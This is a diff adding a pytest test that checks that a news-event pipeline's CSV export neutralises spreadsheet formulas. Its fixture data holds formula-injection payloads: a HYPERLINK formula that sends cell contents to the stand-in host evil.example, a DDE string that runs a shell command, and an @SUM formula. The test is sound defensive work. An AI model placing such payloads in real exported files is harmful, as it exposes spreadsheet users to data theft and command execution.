@@ -100,3 +100,24 @@ def test_since_rejects_what_it_cannot_read() -> None:
 
     with pytest.raises(click.BadParameter, match="expected like 7d"):
         parse_since("last tuesday")
+
+
+def test_csv_neutralises_formulas_in_a_real_process(settings: Settings, db: sqlite_utils.Database) -> None:
+    import subprocess
+    import sys
+
+    from analyst_db import add_article, event
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    add_article(db, "http://news.example.org/formula", title, "The EU and Japan signed a pact.",
+                [event(("EU", "JPN"), "agreement", "signed", "+cmd|' /C calc'!A0", "@SUM(1+1) the EU and Japan")])
+    db.close()
+    result = subprocess.run([sys.executable, "-m", "pipeline", "events", "--db", str(settings.database.path),
+                             "--format", "csv"], capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    row = next(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["article_title"] == "'" + title
+    assert row["instrument"] == "'+cmd|' /C calc'!A0"
+    assert row["evidence"] == "'@SUM(1+1) the EU and Japan"
+    assert row["participants"] == "EU|JPN" and row["confidence"] == "0.9"
+    assert not [cell for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
